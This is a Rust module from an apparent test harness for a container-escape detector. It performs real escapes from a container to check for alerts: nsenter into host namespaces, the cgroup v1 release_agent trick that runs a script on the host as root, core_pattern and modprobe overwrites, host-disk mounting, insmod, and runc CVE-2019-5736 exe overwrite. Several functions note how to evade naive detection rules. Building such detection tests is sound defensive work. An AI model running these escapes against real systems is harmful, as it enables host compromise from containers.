//! The escape techniques, done for real inside a container with busybox tools. Each one checks
//! its effect on the host and fails if the escape did not work, so that a missing alert can only
//! mean the detector missed a working escape.

use std::{fs, path::Path, time::Duration};

use anyhow::{Context, bail, ensure};

use crate::{
    cgroup,
    container::{By, RunningContainer},
    host_disk::{BlockDevice, HostDisk},
    host_process::HostProcess,
    ids,
    poll::eventually,
    rootfs::ACT,
};

/// The namespaces `nsenter -m -u -i -n` enters.
const ENTERED_NAMESPACES: [&str; 4] = ["mnt", "uts", "ipc", "net"];

/// `nsenter` from the container into the mount, uts, ipc and network namespaces of `target`, a
/// host process; the shell started there must report the host's namespace inodes.
pub fn enter_host_namespaces(
    container: &dyn RunningContainer,
    by: By,
    target: &HostProcess,
) -> anyhow::Result<()> {
    let links: Vec<String> = ENTERED_NAMESPACES
        .iter()
        .map(|ns| format!("/proc/self/ns/{ns}"))
        .collect();
    // After -m, /bin/sh and readlink are the host's own.
    let inside = container.run(
        by,
        &format!(
            "nsenter -t {} -m -u -i -n -- /bin/sh -c 'readlink {}'",
            target.pid(),
            links.join(" ")
        ),
    )?;
    ensure!(
        inside.lines().count() == ENTERED_NAMESPACES.len(),
        "unexpected output after nsenter: {inside}"
    );
    for (ns, seen) in ENTERED_NAMESPACES.iter().zip(inside.lines()) {
        let host = fs::read_link(format!("/proc/{}/ns/{ns}", target.pid()))?;
        ensure!(
            Path::new(seen) == host,
            "after nsenter the {ns} namespace is {seen}, the host's is {}",
            host.display()
        );
    }
    Ok(())
}

/// Where the private cgroup hierarchy is mounted inside the container.
const CGROUP_MOUNT: &str = "/tmp/cg";
const RELEASE_AGENT: &str = "escdet-release-agent";
const RELEASE_AGENT_MARKER: &str = "escdet-release-agent-ran";

/// The release agent [`abuse_release_agent`] writes, as the kernel runs it: by its host path.
pub fn release_agent_path(container: &dyn RunningContainer) -> std::path::PathBuf {
    container.rootfs_on_host().join(RELEASE_AGENT)
}

/// The cgroup v1 release_agent escape: mount a cgroup v1 hierarchy, set `notify_on_release` on
/// a child cgroup and point `release_agent` at a script of the container (by its host path),
/// then empty the child so that the kernel runs the script on the host as root. Returns once the
/// script has run. The hierarchy is a private named one (`none,name=escdet…`): the
/// release_agent of a real controller's hierarchy is host-wide.
pub fn abuse_release_agent(container: &dyn RunningContainer, by: By) -> anyhow::Result<()> {
    let host_rootfs = container
        .rootfs_on_host()
        .to_str()
        .context("rootfs path is not UTF-8")?;
    let hierarchy = format!("escdet{}", ids::random_hex(4));
    container.run(
        by,
        &format!(
            "printf '#!/bin/sh\\ntouch {host_rootfs}/{RELEASE_AGENT_MARKER}\\n' > /{RELEASE_AGENT} \
         && chmod +x /{RELEASE_AGENT} \
         && mkdir -p {CGROUP_MOUNT} \
         && mount -t cgroup -o none,name={hierarchy} cgroup {CGROUP_MOUNT} \
         && mkdir {CGROUP_MOUNT}/x"
        ),
    )?;
    let escaped = arm_and_trigger_release_agent(container, by, host_rootfs);
    let removed = remove_private_hierarchy(container, by, &hierarchy);
    escaped.and(removed)
}

/// Mounts a private named cgroup v1 hierarchy at [`CGROUP_MOUNT`] in the container, runs `act`
/// with its path and the hierarchy's name (which mounts it again elsewhere), then unmounts it
/// (it has no child cgroup, so the kernel destroys it).
pub fn with_private_hierarchy<T>(
    container: &dyn RunningContainer,
    by: By,
    act: impl FnOnce(&str, &str) -> T,
) -> anyhow::Result<T> {
    let hierarchy = format!("escdet{}", ids::random_hex(4));
    container.run(by, &format!(
        "mkdir -p {CGROUP_MOUNT} && mount -t cgroup -o none,name={hierarchy} cgroup {CGROUP_MOUNT}"
    ))?;
    let result = act(CGROUP_MOUNT, &hierarchy);
    container.run(by, &format!("umount {CGROUP_MOUNT}"))?;
    ensure!(
        eventually(Duration::from_secs(5), || !cgroup::hierarchy_exists(
            &hierarchy
        )),
        "the cgroup hierarchy {hierarchy} outlives its unmount"
    );
    Ok(result)
}

/// Removes the child cgroup and unmounts the hierarchy, which the kernel then destroys (in the
/// background) unless the child is still linked to it: rmdir returns before the kernel unlinks
/// it, and a hierarchy unmounted with a child lingers, invisible, until it is mounted and
/// unmounted again.
fn remove_private_hierarchy(
    container: &dyn RunningContainer,
    by: By,
    name: &str,
) -> anyhow::Result<()> {
    container.run(by, &format!("rmdir {CGROUP_MOUNT}/x"))?;
    for _ in 0..5 {
        container.run(by, &format!("umount {CGROUP_MOUNT}"))?;
        if eventually(Duration::from_secs(1), || !cgroup::hierarchy_exists(name)) {
            return Ok(());
        }
        container.run(
            by,
            &format!("mount -t cgroup -o none,name={name} cgroup {CGROUP_MOUNT}"),
        )?;
    }
    bail!("the cgroup hierarchy {name} outlives its unmount")
}

fn arm_and_trigger_release_agent(
    container: &dyn RunningContainer,
    by: By,
    host_rootfs: &str,
) -> anyhow::Result<()> {
    container.run(
        by,
        &format!(
            "echo 1 > {CGROUP_MOUNT}/x/notify_on_release \
         && echo {host_rootfs}/{RELEASE_AGENT} > {CGROUP_MOUNT}/release_agent"
        ),
    )?;
    // The shell joins x and exits, leaving x empty: that makes the kernel call the agent.
    container.run(
        by,
        &format!("sh -c 'echo $$ > {CGROUP_MOUNT}/x/cgroup.procs'"),
    )?;
    let marker = container.rootfs_on_host().join(RELEASE_AGENT_MARKER);
    ensure!(
        eventually(Duration::from_secs(5), || marker.exists()),
        "the release agent did not run on the host: no {}",
        marker.display()
    );
    Ok(())
}

/// Writes `value` to the sysctl `name` (like `kernel/core_pattern`) through a second procfs
/// mounted at /mnt/hp, a path no rule matching "/proc/sys/..." strings would recognise.
pub fn write_sysctl_through_second_procfs(
    container: &dyn RunningContainer,
    by: By,
    name: &str,
    value: &str,
) -> anyhow::Result<()> {
    container.run(
        by,
        &format!(
            "mkdir -p /mnt/hp && mount -t proc proc /mnt/hp \
         && echo '{value}' > /mnt/hp/sys/{name}; status=$?; umount /mnt/hp; exit $status"
        ),
    )?;
    expect_host_file(&Path::new("/proc/sys").join(name), value)
}

/// The kernel helper a container can overwrite through its own /proc/sys: `modprobe` where the
/// kernel supports modules, else `core_pattern` (kernels without CONFIG_MODULES, like the
/// development VMs', have no /proc/sys/kernel/modprobe).
pub fn direct_kernel_helper() -> &'static str {
    const MODPROBE: &str = "/proc/sys/kernel/modprobe";
    if Path::new(MODPROBE).exists() {
        MODPROBE
    } else {
        "/proc/sys/kernel/core_pattern"
    }
}

/// Writes `value` to `path` as the container sees it; `path` must be a kernel file that is the
/// same file on the host (/proc/sys/..., /sys/...).
pub fn write_kernel_file(
    container: &dyn RunningContainer,
    by: By,
    path: &str,
    value: &str,
) -> anyhow::Result<()> {
    container.run(by, &format!("echo '{value}' > {path}"))?;
    expect_host_file(Path::new(path), value)
}

/// Mounts a procfs at /mnt/p, checks it is there, and unmounts it.
pub fn mount_procfs(container: &dyn RunningContainer, by: By) -> anyhow::Result<()> {
    container.run(
        by,
        "mkdir -p /mnt/p && mount -t proc proc /mnt/p && grep -q ' /mnt/p proc ' /proc/mounts; \
         status=$?; umount /mnt/p; exit $status",
    )?;
    Ok(())
}

/// Mounts a procfs at /mnt/np with the new mount API (fsopen, fsconfig, fsmount,
/// move_mount), which no rule watching mount(2) sees; checks it is there, and unmounts it.
pub fn mount_procfs_with_new_api(container: &dyn RunningContainer, by: By) -> anyhow::Result<()> {
    container.run(by, &format!(
        "mkdir -p /mnt/np && {ACT} fsmount proc /mnt/np && grep -q ' /mnt/np proc ' /proc/mounts; \
         status=$?; umount /mnt/np; exit $status"
    ))?;
    Ok(())
}

/// Creates a node for `disk` as /dev/hostdisk and mounts it read-only at /mnt/host; checks that
/// the mount is that disk and read-only, then unmounts.
pub fn mount_host_disk(
    container: &dyn RunningContainer,
    by: By,
    disk: &HostDisk,
) -> anyhow::Result<()> {
    let device = disk.device();
    let out = container.run(
        by,
        &format!(
            "mknod /dev/hostdisk b {} {} && mkdir -p /mnt/host \
         && mount -o ro /dev/hostdisk /mnt/host \
         && stat -c %d /mnt/host && grep ' /mnt/host ' /proc/mounts; \
         status=$?; umount /mnt/host; rm -f /dev/hostdisk; exit $status",
            device.major, device.minor
        ),
    )?;
    let mut lines = out.lines();
    let mounted: u64 = lines.next().unwrap_or_default().parse()?;
    ensure!(
        mounted == device.dev_t(),
        "/mnt/host is on device {mounted}, not {device}"
    );
    let options = lines
        .next()
        .and_then(|l| l.split(' ').nth(3))
        .unwrap_or_default();
    ensure!(
        options.split(',').any(|o| o == "ro"),
        "/mnt/host is mounted {options}, not read-only"
    );
    Ok(())
}

fn expect_host_file(path: &Path, value: &str) -> anyhow::Result<()> {
    let now = fs::read_to_string(path).with_context(|| format!("reading {}", path.display()))?;
    ensure!(
        now.trim_end() == value,
        "{} on the host reads {now:?}, not {value:?}",
        path.display()
    );
    Ok(())
}

/// Copies the module file `host_path` into the container and loads it there with `insmod`;
/// checks the kernel then lists module `name`.
pub fn load_module(
    container: &dyn RunningContainer,
    by: By,
    host_path: &Path,
    name: &str,
) -> anyhow::Result<()> {
    fs::copy(host_path, container.rootfs_on_host().join("module.ko"))?;
    container.run(by, "insmod /module.ko")?;
    ensure!(
        crate::kernel_module::is_loaded(name),
        "insmod succeeded but the kernel does not list {name}"
    );
    Ok(())
}

/// Creates a BPF map from the container: the first step of loading any BPF program.
pub fn create_bpf_map(container: &dyn RunningContainer, by: By) -> anyhow::Result<()> {
    container.run(by, &format!("{ACT} bpf"))?;
    Ok(())
}

/// Opens the existing file at `path` (as the container names it) for reading or writing,
/// without creating, truncating or writing it.
pub fn open_file(
    container: &dyn RunningContainer,
    by: By,
    path: &str,
    write: bool,
) -> anyhow::Result<()> {
    let how = if write { "write" } else { "read" };
    container.run(by, &format!("{ACT} open {path} {how}"))?;
    Ok(())
}

/// The "shocker" move on `path` in the container: its handle, then `open_by_handle_at`. Without
/// CAP_DAC_READ_SEARCH the kernel refuses the open, and `refused` says that is expected.
pub fn open_by_handle(
    container: &dyn RunningContainer,
    by: By,
    path: &str,
    refused: bool,
) -> anyhow::Result<()> {
    let act = format!("{ACT} open-by-handle {path}");
    if refused {
        container.run(by, &format!("! {act}"))?;
    } else {
        container.run(by, &act)?;
    }
    Ok(())
}

/// runc CVE-2019-5736's move against host process `target`: keeps its `/proc/PID/exe` open and
/// opens it for writing once the process has exited (the act returns then).
pub fn overwrite_exe(container: &dyn RunningContainer, by: By, target: u32) -> anyhow::Result<()> {
    container.run(by, &format!("{ACT} exe-overwrite {target}"))?;
    Ok(())
}

/// Makes a block device node for `device` at `path` in the container.
pub fn make_block_node(
    container: &dyn RunningContainer,
    by: By,
    device: BlockDevice,
    path: &str,
) -> anyhow::Result<()> {
    container.run(
        by,
        &format!("mknod {path} b {} {}", device.major, device.minor),
    )?;
    Ok(())
}

/// Takes a descriptor of every loaded BPF program, map and link by id, as `bpftool` lists them.
pub fn walk_bpf_objects(container: &dyn RunningContainer, by: By) -> anyhow::Result<()> {
    container.run(by, &format!("{ACT} bpf-walk"))?;
    Ok(())
}

/// Sends `signal` (a number) to `target` from the container.
pub fn send_signal(
    container: &dyn RunningContainer,
    by: By,
    target: u32,
    signal: i32,
) -> anyhow::Result<()> {
    container.run(by, &format!("{ACT} signal {target} {signal}"))?;
    Ok(())
}

/// Attaches to `target` with ptrace from the container, waits for it to stop, and detaches.
pub fn ptrace_attach(container: &dyn RunningContainer, by: By, target: u32) -> anyhow::Result<()> {
    container.run(by, &format!("{ACT} ptrace {target}"))?;
    Ok(())
}

/// Reads `target`'s memory from the container with process_vm_readv.
pub fn read_process_memory(
    container: &dyn RunningContainer,
    by: By,
    target: u32,
) -> anyhow::Result<()> {
    container.run(by, &format!("{ACT} vm-read {target}"))?;
    Ok(())
}

/// Connects to the unix socket at `path` as the container names it, to an abstract one
/// (`@name`), or over TCP (`tcp://ADDRESS:PORT`).
pub fn connect_socket(container: &dyn RunningContainer, by: By, path: &str) -> anyhow::Result<()> {
    container.run(by, &format!("{ACT} connect {path}"))?;
    Ok(())
}

/// Which cgroups [`move_to_cgroups`] moves a process into.
#[derive(Clone, Copy, Debug)]
pub enum CgroupDestination {
    /// The container's own, as its /proc/self/cgroup names them.
    Own,
    /// The root cgroup of every hierarchy: the host's.
    HostRoot,
}

/// Moves process `pid` ("0": the shell that writes) into `destination` in every hierarchy the
/// container's process is in, through hierarchies the container mounts itself (it must be
/// privileged and share the host's cgroup namespace). Each hierarchy is unmounted after.
pub fn move_to_cgroups(
    container: &dyn RunningContainer,
    by: By,
    pid: &str,
    destination: CgroupDestination,
) -> anyhow::Result<String> {
    let path = match destination {
        CgroupDestination::Own => "$path",
        CgroupDestination::HostRoot => "/",
    };
    container.run(
        by,
        &format!(
            "mkdir -p /mnt/cg && while IFS=: read -r id controllers path; do \
               if [ -z \"$controllers\" ]; then mount -t cgroup2 none /mnt/cg; \
               else mount -t cgroup -o \"$controllers\" cgroup /mnt/cg; fi || exit 1; \
               echo {pid} > \"/mnt/cg{path}/cgroup.procs\"; status=$?; umount /mnt/cg; \
               [ $status -eq 0 ] || exit $status; \
             done < /proc/self/cgroup"
        ),
    )
}
